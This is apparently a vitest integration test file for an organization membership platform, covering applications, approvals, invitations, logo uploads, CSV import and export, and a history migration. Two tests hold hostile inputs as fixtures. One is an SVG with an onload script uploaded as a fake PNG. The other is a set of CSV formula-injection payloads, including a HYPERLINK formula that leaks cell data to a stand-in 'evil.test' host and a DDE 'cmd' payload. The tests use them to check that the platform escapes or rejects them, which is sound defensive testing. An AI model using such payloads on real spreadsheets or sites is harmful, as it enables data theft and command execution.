/** Membership over HTTP on both engines: application → more information → approval → public page, invitations, lifecycle, logos, import. */
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import sharp from 'sharp';
import { createTestContext, DIALECTS, lastMail, signUpAndIn, type TestContext, type TestClient } from '../../../tests/support/context.js';
import { canActFor, designatedVoter, isMemberInGoodStanding, memberCountsByCountry, organizationsOfUser } from './index.js';
import { hashToken, createInvitation, acceptInvitation } from './commands/people.js';
import { transition } from './commands/lifecycle.js';
import { makeOrganization, addPerson } from './factories.js';
import { orgHistory } from './commands/history.js';
import { mailContext } from './commands/mail.js';
import { addBodyMember } from '../bodies/index.js';

const APPLY = {
  name: 'Red Migrante del Sur',
  acronym: 'RMS',
  country: 'CL',
  countries: ['CL', 'AR'],
  city: 'Santiago',
  type: 'network',
  objectives: ['1', '7'],
  languages: ['es'],
  website: 'https://redmigrante.example.org',
  social: 'https://social.example/rms',
  description: 'Acompañamos a personas migrantes.',
  description_lang: 'es',
  role_title: 'Coordinadora',
  person_name: 'Ana Pérez',
  email: 'ana@rms.example',
  password: 'a-long-password-1',
  confirm: 'a-long-password-1',
  accept_principles: 'on',
  accept_terms: 'on',
};

async function verifyAndSignIn(ctx: TestContext, email: string, password: string): Promise<TestClient> {
  const c = ctx.client();
  const mail = await lastMail(ctx, email);
  const token = /token=([^\s&]+)/.exec(mail!.text_body)![1]!;
  expect((await c.get(`/es/verify-email?token=${token}`)).status).toBe(303);
  await c.signIn(email, password);
  return c;
}

describe.each(DIALECTS)('membership on %s', (dialect) => {
  let ctx: TestContext;
  let admin: TestClient;
  let ana: TestClient;
  let orgId: string;
  let anaId: string;
  beforeAll(async () => {
    ctx = await createTestContext(dialect);
    admin = await ctx.admin();
  });
  afterAll(() => ctx.close());

  it('shows the public pages in every language', async () => {
    const c = ctx.client();
    for (const l of ['es', 'en', 'pt', 'fr']) {
      for (const p of ['/join', '/members', '/coverage']) expect((await c.get(`/${l}${p}`)).status, `${l}${p}`).toBe(200);
    }
  });

  it('keeps the input and explains errors in the visitor language', async () => {
    const r = await ctx.client().post('/en/join', { ...APPLY, accept_terms: undefined, objectives: undefined, website: 'not a url' });
    expect(r.status).toBe(422);
    const html = await r.text();
    expect(html).toContain('value="Red Migrante del Sur"');
    expect(html).toContain('Accept the terms of participation to apply.');
    expect(html).toContain('There is a problem');
    expect(await ctx.db.selectFrom('organizations').select('id').execute()).toHaveLength(0);
  });

  it('creates the account and the application together', async () => {
    const r = await ctx.client().post('/es/join', APPLY);
    expect(r.status).toBe(303);
    expect(r.headers.get('location')).toMatch(/^\/es\/join\/sent/);
    const org = await ctx.db.selectFrom('organizations').selectAll().where('name', '=', APPLY.name).executeTakeFirstOrThrow();
    expect(org.status).toBe('applicant');
    expect(org.commitment_at).toBeTruthy();
    orgId = org.id;
    const user = await ctx.db.selectFrom('users').select(['id', 'email_verified']).where('email', '=', APPLY.email).executeTakeFirstOrThrow();
    anaId = user.id;
    expect(Boolean(user.email_verified)).toBe(false);
    expect((await organizationsOfUser(ctx.db, anaId))[0]?.id).toBe(orgId);
    expect((await lastMail(ctx, 'admin@test.local'))?.kind).toBe('membership.applied');
    const history = await orgHistory(ctx.db, orgId);
    expect(history.map((h) => h.step)).toEqual(['applied']);
    expect(history[0]).toMatchObject({ action: 'membership.applied', actorId: anaId, to: 'applicant', changes: { name: APPLY.name, country: 'CL' } });
  });

  it('catches a second application for the same organization and points to it', async () => {
    const r = await ctx.client().post('/es/join', { ...APPLY, email: 'otra@rms.example', website: '' });
    expect(r.status).toBe(422);
    expect(await r.text()).toContain('Red Migrante del Sur ya presentó una solicitud');
    const bySite = await ctx.client().post('/en/join', { ...APPLY, name: 'Otro nombre', country: 'PE', email: 'x@rms.example', website: 'https://www.redmigrante.example.org/' });
    expect(bySite.status).toBe(422);
    expect(await ctx.db.selectFrom('users').select('id').where('email', '=', 'otra@rms.example').executeTakeFirst()).toBeUndefined();
  });

  it('goes through a request for more information, resubmission and approval', async () => {
    ana = await verifyAndSignIn(ctx, APPLY.email, APPLY.password);
    expect((await ana.get(`/es/organizations/${orgId}`)).status).toBe(200);
    // Reason is required.
    expect((await admin.post(`/es/admin/organizations/${orgId}/request-info`, { reason_request_info: '' })).status).toBe(422);
    const ask = await admin.post(`/es/admin/organizations/${orgId}/request-info`, { reason_request_info: 'Falta el acta constitutiva.' });
    expect(ask.status).toBe(303);
    const mail = await lastMail(ctx, APPLY.email);
    expect(mail?.kind).toBe('membership.infoRequested');
    expect(mail?.text_body).toContain('Falta el acta constitutiva.');
    const page = await (await ana.get(`/es/organizations/${orgId}`)).text();
    expect(page).toContain('Falta el acta constitutiva.');
    const edit = await ana.post(`/es/organizations/${orgId}/edit`, {
      ...APPLY,
      description_es: 'Acompañamos a personas migrantes desde 2010.',
      description_en: 'We support migrants since 2010.',
      public_fields: ['acronym', 'city', 'type', 'description', 'objectives'],
      contact_name: 'Ana Pérez',
      contact_email: 'ana@rms.example',
    });
    expect(edit.status).toBe(303);
    expect((await ana.post(`/es/organizations/${orgId}/resubmit`)).status).toBe(303);
    expect((await ctx.db.selectFrom('organizations').select('status').where('id', '=', orgId).executeTakeFirstOrThrow()).status).toBe('applicant');
    expect((await admin.post(`/es/admin/organizations/${orgId}/approve`)).status).toBe(303);
    expect(await isMemberInGoodStanding(ctx.db, orgId)).toBe(true);
    expect(await designatedVoter(ctx.db, orgId)).toBe(anaId);
    const history = (await orgHistory(ctx.db, orgId)).map((h) => h.step);
    expect(history).toEqual(['applied', 'info_requested', 'profile_updated', 'resubmitted', 'approved']);
    const review = await (await admin.get(`/es/admin/organizations/${orgId}`)).text();
    expect(review).toContain('Falta el acta constitutiva.');
    // The history section reads the platform's history as sentences, with names, in the reader's language.
    expect(review).toContain('Ana Pérez presentó la solicitud de adhesión de Red Migrante del Sur (RMS)');
    expect(review).toContain('pidió más información a Red Migrante del Sur (RMS)');
    expect(review).toContain('aprobó la adhesión de Red Migrante del Sur (RMS)');
    expect(review).not.toContain('membership.');
    const inEnglish = await (await admin.get(`/en/admin/organizations/${orgId}`)).text();
    expect(inEnglish).toContain('approved the membership of Red Migrante del Sur (RMS)');
    // The organization's own page reads the same history, with the fields a profile update changed, in words.
    const own = await (await ana.get(`/es/organizations/${orgId}`)).text();
    expect(own).toContain('Ana Pérez actualizó el perfil de Red Migrante del Sur (RMS)');
    expect(own).toContain('<td>Descripción pública</td>');
    expect((await lastMail(ctx, 'admin@test.local'))?.kind).toBe('membership.resubmitted');
    // A second approval is refused: status changed.
    const again = await admin.post(`/es/admin/organizations/${orgId}/approve`);
    expect(again.status).toBe(403);
  });

  it('shows only what the organization made public, in the directory, its page and the API', async () => {
    const anon = ctx.client();
    const org = await ctx.db.selectFrom('organizations').select('slug').where('id', '=', orgId).executeTakeFirstOrThrow();
    const page = await (await anon.get(`/en/members/${org.slug}`)).text();
    expect(page).toContain('We support migrants since 2010.');
    expect(page).not.toContain('redmigrante.example.org');
    expect(page).not.toContain('ana@rms.example');
    const list = await (await anon.get('/es/members?country=AR&objective=7&q=migrante')).text();
    expect(list).toContain('Red Migrante del Sur');
    expect(await (await anon.get('/es/members?type=youth')).text()).not.toContain('Red Migrante del Sur');
    const api: any = await (await anon.get('/api/v1/organizations?country=CL&lang=en')).json();
    expect(api.meta.total).toBe(1);
    expect(api.data[0]).toMatchObject({ name: 'Red Migrante del Sur', acronym: 'RMS', country: 'CL' });
    const one: any = await (await anon.get(`/api/v1/organizations/${org.slug}`)).json();
    expect(one.data.website).toBeNull();
    expect(one.data.objectives).toEqual([1, 7]);
    expect((await anon.get('/api/v1/organizations/nope')).status).toBe(404);
    const spec: any = await (await anon.get('/api/v1/openapi.json')).json();
    expect(spec.paths['/organizations']).toBeTruthy();
    // It works in Chile (its country of registration, also listed) and Argentina: counted once in each.
    expect(await memberCountsByCountry(ctx.db)).toEqual({ AR: 1, CL: 1 });
    expect(await memberCountsByCountry(ctx.db, 'registration')).toEqual({ CL: 1 });
    const obj = await (await anon.get('/es/objectives/7')).text();
    expect(obj).toContain('Red Migrante del Sur');
    const cov = await anon.get('/es/coverage');
    expect(await cov.text()).toContain('<svg');
  });

  it('invites colleagues with single-use links that expire, and names the voter', async () => {
    expect((await ana.post(`/es/organizations/${orgId}/invitations`, { email: 'luis@rms.example' })).status).toBe(303);
    const link = /\/es\/invitations\/([A-Za-z0-9_-]+)/.exec((await lastMail(ctx, 'luis@rms.example'))!.text_body)![1]!;
    const { client: luis, userId: luisId } = await signUpAndIn(ctx, 'luis@rms.example', 'Luis');
    expect((await luis.get(`/es/invitations/${link}`)).status).toBe(200);
    expect((await luis.post(`/es/invitations/${link}`)).status).toBe(303);
    expect(await canActFor(ctx.db, luisId, orgId)).toBe(true);
    const reused = await luis.post(`/en/invitations/${link}`);
    expect(reused.status).toBe(422);
    expect(await reused.text()).toContain('already used');
    // An expired one.
    await ana.post(`/es/organizations/${orgId}/invitations`, { email: 'old@rms.example' });
    const old = /\/es\/invitations\/([A-Za-z0-9_-]+)/.exec((await lastMail(ctx, 'old@rms.example'))!.text_body)![1]!;
    await ctx.db.updateTable('membership_invitations').set({ expires_at: '2000-01-01T00:00:00.000Z' }).where('token_hash', '=', hashToken(old)).execute();
    const expired = await luis.get(`/es/invitations/${old}`);
    expect(expired.status).toBe(410);
    expect(await expired.text()).toContain('venció');
    // Exactly one voter.
    expect((await ana.post(`/es/organizations/${orgId}/people`, { representatives: [anaId, luisId] })).status).toBe(422);
    expect((await ana.post(`/es/organizations/${orgId}/people`, { representatives: [anaId, luisId], voter: luisId })).status).toBe(303);
    expect(await designatedVoter(ctx.db, orgId)).toBe(luisId);
  });

  it('stores logos safely and refuses other files with the reason', async () => {
    const png = await sharp({ create: { width: 800, height: 400, channels: 3, background: '#0072B2' } }).png().toBuffer();
    const fd = new FormData();
    fd.append('logo', new File([new Uint8Array(png)], 'logo.png', { type: 'image/png' }));
    expect((await ana.postMultipart(`/es/organizations/${orgId}/logo`, fd)).status).toBe(303);
    const org = await ctx.db.selectFrom('organizations').select(['logo_file']).where('id', '=', orgId).executeTakeFirstOrThrow();
    expect(org.logo_file).toMatch(/^[0-9a-z]{16}\.webp$/);
    // Not public (the organization did not tick "logo"): only its people see it.
    expect((await ctx.client().get(`/es/logos/${org.logo_file}`)).status).toBe(404);
    const served = await ana.get(`/es/logos/${org.logo_file}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/webp');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    const meta = await sharp(Buffer.from(await served.arrayBuffer())).metadata();
    expect(meta.width).toBeLessThanOrEqual(400);
    const bad = new FormData();
    bad.append('logo', new File(['<svg onload="alert(1)"></svg>'], 'logo.png', { type: 'image/png' }));
    const r = await ana.postMultipart(`/en/organizations/${orgId}/logo`, bad);
    expect(r.status).toBe(422);
    expect(await r.text()).toContain('not a PNG, JPEG or WebP');
  });

  it('suspends (its people cannot act for it), re-admits, and lets a member leave', async () => {
    expect((await admin.post(`/es/admin/organizations/${orgId}/suspend`, { reason_suspend: 'Incumplimiento de los términos.' })).status).toBe(303);
    expect(await canActFor(ctx.db, anaId, orgId)).toBe(false);
    expect((await ana.get(`/es/organizations/${orgId}/edit`)).status).toBe(403);
    expect((await ana.post(`/es/organizations/${orgId}/invitations`, { email: 'x@rms.example' })).status).toBe(403);
    const org = await ctx.db.selectFrom('organizations').select('slug').where('id', '=', orgId).executeTakeFirstOrThrow();
    expect((await ctx.client().get(`/es/members/${org.slug}`)).status).toBe(404);
    expect((await admin.post(`/es/admin/organizations/${orgId}/readmit`)).status).toBe(303);
    expect(await canActFor(ctx.db, anaId, orgId)).toBe(true);
    expect((await ana.post(`/es/organizations/${orgId}/leave`, { reason: '' })).status).toBe(422);
    expect((await ana.post(`/es/organizations/${orgId}/leave`, { reason: 'Cerramos la organización.' })).status).toBe(303);
    const after = await ctx.db.selectFrom('organizations').select(['status', 'status_reason']).where('id', '=', orgId).executeTakeFirstOrThrow();
    expect(after).toEqual({ status: 'withdrawn', status_reason: 'Cerramos la organización.' });
    expect((await admin.post(`/es/admin/organizations/${orgId}/readmit`)).status).toBe(303);
  });

  it('imports a CSV all at once after a preview, and refuses files that are not CSV', async () => {
    const csv = [
      'name,acronym,country,city,type,website,countries,objectives,languages,description',
      'Colectivo Frontera,CF,MX,Tijuana,ngo,https://cf.example.org,MX;US,1;2,es,Albergue',
      '"Asociación ""Puentes""",,BR,,migrant_led,,,,pt,',
      ',,XX,,spaceship,notaurl,,99,,',
      'Red Migrante del Sur,,CL,,ngo,,,,,',
    ].join('\n');
    const fd = new FormData();
    fd.append('file', new File([csv], 'members.csv', { type: 'text/csv' }));
    const up = await admin.postMultipart('/es/admin/import', fd);
    expect(up.status).toBe(303);
    const previewUrl = up.headers.get('location')!;
    const preview = await (await admin.get(previewUrl)).text();
    expect(preview).toContain('Falta el nombre.');
    expect(preview).toContain('Ya está en el Mecanismo');
    expect(preview).toContain('Importar 2 organizaciones');
    const before = (await ctx.db.selectFrom('organizations').select('id').execute()).length;
    expect((await admin.post(previewUrl)).status).toBe(303);
    expect((await ctx.db.selectFrom('organizations').select('id').execute()).length).toBe(before + 2);
    expect(await (await admin.get(previewUrl)).text()).toContain('<progress');
    // The same preview cannot be imported twice.
    await admin.post(previewUrl);
    expect((await ctx.db.selectFrom('organizations').select('id').execute()).length).toBe(before + 2);
    // A conflict rolls back everything.
    const fd2 = new FormData();
    fd2.append('file', new File(['name,country\nUno Nuevo,PE\nDos Nuevo,PE\n'], 'b.csv', { type: 'text/csv' }));
    const up2 = await admin.postMultipart('/es/admin/import', fd2);
    const url2 = up2.headers.get('location')!;
    await ctx.db.insertInto('organizations').values({ id: 'zzzzzzzzzzzzzzzz', slug: 'dos-nuevo-x', name: 'Dos Nuevo', country: 'PE', type: 'ngo', status: 'member', status_changed_at: 'x', created_at: 'x', updated_at: 'x', name_key: 'dos nuevo', status_reason: null, acronym: null, city: null, website: null, description: null, public_fields: '[]', admitted_at: null }).execute();
    await admin.post(url2);
    expect(await ctx.db.selectFrom('organizations').select('id').where('name', '=', 'Uno Nuevo').executeTakeFirst()).toBeUndefined();
    // Not a CSV.
    const png = await sharp({ create: { width: 10, height: 10, channels: 3, background: '#000' } }).png().toBuffer();
    const fd3 = new FormData();
    fd3.append('file', new File([new Uint8Array(png)], 'photo.png', { type: 'image/png' }));
    const r3 = await admin.postMultipart('/en/admin/import', fd3);
    expect(r3.status).toBe(422);
    expect(await r3.text()).toContain('The file is not a CSV');
  });

  it('exports a CSV for administrators only', async () => {
    const r = await admin.get('/es/admin/organizations.csv');
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toContain('text/csv');
    const text = await r.text();
    expect(text.split('\n')[0]).toContain('name,acronym,country');
    expect(text).toContain('Colectivo Frontera');
    expect((await ana.get('/es/admin/organizations.csv')).status).toBe(403);
  });

  it('filters by body and pages the API', async () => {
    // Mesa membership is bodies' (body_members): an approved member of the Mesa shows under its filter.
    const body = await ctx.db.selectFrom('bodies').select(['id', 'slug']).orderBy('position').executeTakeFirstOrThrow();
    const o = await makeOrganization(ctx.db, { name: 'Organización de la Mesa', status: 'member', public_fields: JSON.stringify(['bodies']) });
    await addBodyMember(ctx.db, body.id, o.id);
    const html = await (await ctx.client().get(`/es/members?body=${body.slug}`)).text();
    expect(html).toContain('Organización de la Mesa');
    expect(html).not.toContain('Colectivo Frontera');
    expect(html).toContain('Organizaciones encontradas: 1');
    const byBody: any = await (await ctx.client().get(`/api/v1/organizations?body=${body.slug}`)).json();
    expect(byBody.data.map((x: { name: string }) => x.name)).toEqual(['Organización de la Mesa']);
    const unknown = await (await ctx.client().get('/es/members?body=no-such-mesa')).text();
    expect(unknown).not.toContain('Organización de la Mesa');
    // Its page and the API list the Mesa, as bodies keeps it.
    const page = await (await ctx.client().get(`/es/members/${o.slug}`)).text();
    expect(page).toContain(`/es/bodies/${body.slug}`);
    const one: any = await (await ctx.client().get(`/api/v1/organizations/${o.slug}`)).json();
    expect(one.data.bodies).toEqual([body.slug]);
    const api: any = await (await ctx.client().get('/api/v1/organizations?perPage=1&page=2&sort=name')).json();
    expect(api.data).toHaveLength(1);
    expect(api.meta.page).toBe(2);
    expect(api.meta.pages).toBe(api.meta.total);
  });

  it('lets only one of two simultaneous reviewers act, and uses an invitation once under concurrency', async () => {
    const adminUser = { id: 'admin-x', name: 'A', email: 'a@x', role: 'admin' as const, locale: null, emailVerified: true };
    const o = await makeOrganization(ctx.db, { name: 'Concurrente', status: 'applicant' });
    const mail = mailContext(ctx.deps);
    const results = await Promise.all([
      ctx.db.transaction().execute((trx) => transition(trx, mail, adminUser, o.id, 'approve')),
      ctx.db.transaction().execute((trx) => transition(trx, mail, adminUser, o.id, 'decline', 'No')),
    ]);
    expect(results.filter((r) => r.ok)).toHaveLength(1);
    expect(await orgHistory(ctx.db, o.id)).toHaveLength(1);

    await ctx.db.updateTable('organizations').set({ status: 'member' }).where('id', '=', o.id).execute();
    const inv = await createInvitation(ctx.db, mail, adminUser, o.id, 'two@x.example');
    if (!inv.ok) throw new Error('no invitation');
    const { userId: u1 } = await signUpAndIn(ctx, 'race1@x.example');
    const { userId: u2 } = await signUpAndIn(ctx, 'race2@x.example');
    const who = (id: string) => ({ id, name: id, email: `${id}@x`, role: 'member' as const, locale: null, emailVerified: true });
    const accepted = await Promise.all([u1, u2].map((u) => ctx.db.transaction().execute((trx) => acceptInvitation(trx, who(u), inv.token)).catch(() => ({ ok: false as const, reason: 'used' }))));
    expect(accepted.filter((r) => r.ok)).toHaveLength(1);
    const people = await ctx.db.selectFrom('organization_people').select('user_id').where('org_id', '=', o.id).execute();
    expect(people).toHaveLength(1);
  });
});

describe.each(DIALECTS)('membership mails, CSV and history migration on %s', (dialect) => {
  let ctx: TestContext;
  let admin: TestClient;
  beforeAll(async () => {
    ctx = await createTestContext(dialect);
    admin = await ctx.admin();
  });
  afterAll(() => ctx.close());

  it('tells each person of the organization in their own language, inside the step', async () => {
    const o = await makeOrganization(ctx.db, { name: 'Rede Lusófona', status: 'member' });
    const pt = await signUpAndIn(ctx, 'pt@rede.example', 'Pessoa');
    const es = await signUpAndIn(ctx, 'es@rede.example', 'Persona');
    await ctx.db.updateTable('users').set({ locale: 'pt' }).where('id', '=', pt.userId).execute();
    await addPerson(ctx.db, o.id, pt.userId, { voter: true });
    await addPerson(ctx.db, o.id, es.userId);
    expect((await admin.post(`/en/admin/organizations/${o.id}/suspend`, { reason_suspend: 'Motivo' })).status).toBe(303);
    const toPt = await lastMail(ctx, 'pt@rede.example');
    const toEs = await lastMail(ctx, 'es@rede.example');
    expect(toPt?.kind).toBe('membership.suspended');
    expect(toPt?.subject).toBe('Rede Lusófona foi suspensa');
    expect(toPt?.text_body).toContain(`/pt/organizations/${o.id}`);
    expect(toEs?.subject).toContain('Rede Lusófona');
    expect(toEs?.text_body).toContain(`/es/organizations/${o.id}`);
    // A refused step (wrong status now) writes no mail: it rolls back with the step.
    const before = (await ctx.db.selectFrom('outbox').select('id').execute()).length;
    expect((await admin.post(`/es/admin/organizations/${o.id}/suspend`, { reason_suspend: 'Otra vez' })).status).toBe(403);
    expect((await ctx.db.selectFrom('outbox').select('id').execute()).length).toBe(before);
  });

  it('writes formula-looking names as text in the CSV export', async () => {
    const evil = ['=HYPERLINK("http://evil.test/?leak="&B2,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1-2', '-3+4'];
    for (const name of evil) await makeOrganization(ctx.db, { name, city: '\tTab', website: '=1+1' });
    const r = await admin.get('/es/admin/organizations.csv');
    expect(r.status).toBe(200);
    const text = await r.text();
    const { parse } = await import('csv-parse/sync');
    const rows: string[][] = parse(text.replace(/^\uFEFF/, ''));
    const cells = rows.slice(1).flat();
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    const names = rows.slice(1).map((row) => row[0]);
    expect(names).toContain(`'=HYPERLINK("http://evil.test/?leak="&B2,"x")`);
    expect(names).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
  });

  it('moves membership_history into the one history, once per step, and drops the copy of Mesa membership', async () => {
    const history = await import('./migrations/2026_12_02_0610_membership_history_to_audit.js');
    const bodies = await import('./migrations/2026_12_02_0600_membership_drop_organization_bodies.js');
    const db = ctx.db as any;
    const o = await makeOrganization(ctx.db, { name: 'Historia', status: 'member' });
    const adminId = (await ctx.db.selectFrom('users').select('id').where('role', '=', 'admin').executeTakeFirstOrThrow()).id;
    await history.down(db);
    await bodies.down(db);
    await db.insertInto('organization_bodies').values({ org_id: o.id, body_id: 'x' }).execute();
    await db
      .insertInto('membership_history')
      .values([
        { id: 'h1aaaaaaaaaaaaaa', org_id: o.id, at: '2025-01-01T10:00:00.000Z', actor_id: null, action: 'imported', from_status: null, to_status: 'member', note: 'old.csv', changes: null },
        { id: 'h2aaaaaaaaaaaaaa', org_id: o.id, at: '2025-02-01T10:00:00.000Z', actor_id: adminId, action: 'profile_updated', from_status: null, to_status: null, note: null, changes: '["name","city"]' },
      ])
      .execute();
    // The second step was also written to the audit log at the time (its twin, a millisecond later).
    await db
      .insertInto('audit_log')
      .values({ id: 'twinaaaaaaaaaaa', at: '2025-02-01T10:00:00.001Z', actor_id: adminId, action: 'membership.profile_updated', subject_type: 'organization', subject_id: o.id, data: '{"changes":["name","city"]}' })
      .execute();
    await bodies.up(db);
    await history.up(db);
    const rows = await ctx.db.selectFrom('audit_log').selectAll().where('subject_id', '=', o.id).orderBy('at').execute();
    expect(rows.map((r) => [r.id, r.at, r.actor_id, r.action, r.subject_type, r.data])).toEqual([
      ['h1aaaaaaaaaaaaaa', '2025-01-01T10:00:00.000Z', null, 'membership.imported', 'organization', '{"to":"member","note":"old.csv"}'],
      ['h2aaaaaaaaaaaaaa', '2025-02-01T10:00:00.000Z', adminId, 'membership.profile_updated', 'organization', '{"changes":["name","city"]}'],
    ]);
    const steps = await orgHistory(ctx.db, o.id);
    expect(steps.map((s) => [s.step, s.to, s.note, s.changes])).toEqual([
      ['imported', 'member', 'old.csv', undefined],
      ['profile_updated', null, null, ['name', 'city']],
    ]);
    const page = await (await admin.get(`/es/admin/organizations/${o.id}`)).text();
    expect(page).toContain('old.csv');
    expect(page).toContain('Nombre de la organización, Ciudad');
    await expect(db.selectFrom('membership_history').selectAll().execute()).rejects.toThrow();
    await expect(db.selectFrom('organization_bodies').selectAll().execute()).rejects.toThrow();
  });
});
